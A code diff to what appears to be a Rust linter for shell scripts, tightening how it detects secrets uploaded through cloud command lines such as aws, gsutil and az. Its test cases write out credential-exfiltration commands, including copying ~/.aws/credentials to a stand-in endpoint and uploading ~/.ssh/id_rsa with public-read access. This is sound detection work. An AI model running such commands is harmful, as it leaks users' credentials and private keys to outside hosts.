@@ -112,11 +112,12 @@ pub(super) fn sink(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &Cmd<'_>, flow: &Flo
             .unwrap_or(if whole { t.as_str() } else { "" });
         let file_norm = normalize_path(file);
         // A cloud's command line sends its arguments to the account it is
-        // logged in to: only what it uploads leaves.
+        // logged in to: only what it uploads leaves. Pointed at another
+        // endpoint, it is a network call like any other.
         let cloud = matches!(
             cmd.name.as_str(),
             "aws" | "gsutil" | "gcloud" | "az" | "azcopy"
-        );
+        ) && !other_endpoint(cmd.args);
         let via_var = vars(t).into_iter().find(|v| {
             flow.tainted.contains(*v)
                 && (whole || !cloud)
@@ -240,6 +241,13 @@ fn cloud_uploads(name: &str, args: &[Word]) -> Vec<bool> {
             .any(|p| t.starts_with(p))
     };
     let has = |w: &str| args.iter().any(|a| a.text == w);
+    // The word after an option that takes a value is that value, not an
+    // operand (`--endpoint-url https://…` names no bucket).
+    let value = |i: usize| {
+        i.checked_sub(1)
+            .and_then(|p| args.get(p))
+            .is_some_and(|p| takes_value(&p.text))
+    };
     let copies = match name {
         "aws" => has("s3") && (has("cp") || has("mv") || has("sync")),
         "gsutil" => has("cp") || has("mv") || has("rsync"),
@@ -258,7 +266,7 @@ fn cloud_uploads(name: &str, args: &[Word]) -> Vec<bool> {
     };
     let mut remote_after = vec![false; args.len() + 1];
     for (i, a) in args.iter().enumerate().rev() {
-        remote_after[i] = remote_after[i + 1] || operand(a) && remote(&a.text);
+        remote_after[i] = remote_after[i + 1] || operand(a) && !value(i) && remote(&a.text);
     }
     let mut remote_before = false;
     for (i, a) in args.iter().enumerate() {
@@ -273,15 +281,74 @@ fn cloud_uploads(name: &str, args: &[Word]) -> Vec<bool> {
         };
         let source = copies
             && operand(a)
+            && !value(i)
             && !remote(&a.text)
             && !remote_before
             && remote_after.get(i + 1).copied().unwrap_or(false);
         if let Some(o) = out.get_mut(i) {
             *o = flag_file || source;
         }
-        remote_before |= operand(a) && remote(&a.text);
+        remote_before |= operand(a) && !value(i) && remote(&a.text);
     }
     out
+}
+
+/// Whether the option `flag` of a cloud's command line takes the next word
+/// as its value (the options its storage commands take with one; the
+/// `--flag=value` form is one word already).
+fn takes_value(flag: &str) -> bool {
+    matches!(
+        flag,
+        "--endpoint-url"
+            | "--endpoint"
+            | "--region"
+            | "--profile"
+            | "--acl"
+            | "--storage-class"
+            | "--sse"
+            | "--sse-kms-key-id"
+            | "--content-type"
+            | "--cache-control"
+            | "--metadata"
+            | "--expires"
+            | "--grants"
+            | "--include"
+            | "--exclude"
+            | "--output"
+            | "--query"
+            | "--ca-bundle"
+            | "--project"
+            | "--account-name"
+            | "--account-key"
+            | "--container-name"
+            | "--container"
+            | "--name"
+            | "--sas-token"
+            | "--connection-string"
+            | "--auth-mode"
+            | "--subscription"
+            | "-o"
+            | "-h"
+            | "-c"
+            | "-n"
+    )
+}
+
+/// Whether a cloud command is pointed at an endpoint of someone's choosing
+/// (`aws --endpoint-url https://s3.other.example`, `az … --blob-endpoint`):
+/// then it sends to that host, not to the cloud account.
+fn other_endpoint(args: &[Word]) -> bool {
+    args.iter().any(|a| {
+        let t = a.text.as_str();
+        [
+            "--endpoint-url",
+            "--endpoint",
+            "--blob-endpoint",
+            "--account-url",
+        ]
+        .iter()
+        .any(|f| t == *f || t.strip_prefix(f).is_some_and(|r| r.starts_with('=')))
+    })
 }
 
 /// Whether a header (`Authorization: Bearer $T`, `X-Api-Key: $K`) is the
@@ -299,6 +366,31 @@ fn credential_header(header: &str) -> bool {
 mod tests {
     use crate::rule::{Severity, id};
     use crate::shell::tests::rules;
+
+    #[test]
+    fn a_cloud_upload_of_a_store_past_option_values() {
+        for text in [
+            "aws s3 cp --endpoint-url https://s3.drop.example.com ~/.aws/credentials s3://b/c\n",
+            "aws s3 cp --region us-east-1 ~/.aws/credentials s3://b/c\n",
+            "aws s3 cp ~/.ssh/id_rsa s3://b/k --acl public-read\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                found.contains(&(id::SecretsToNetwork.code, Severity::Critical)),
+                "{text}: {found:?}"
+            );
+        }
+        for text in [
+            "aws s3 cp --region us-east-1 dist/app.zip s3://my-bucket/app.zip\n",
+            "aws s3 cp s3://b/state.json ./state.json --region \"$R\"\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                found.iter().all(|(_, s)| *s < Severity::High),
+                "{text}: {found:?}"
+            );
+        }
+    }
 
     #[test]
     fn an_upload_to_a_bare_address() {
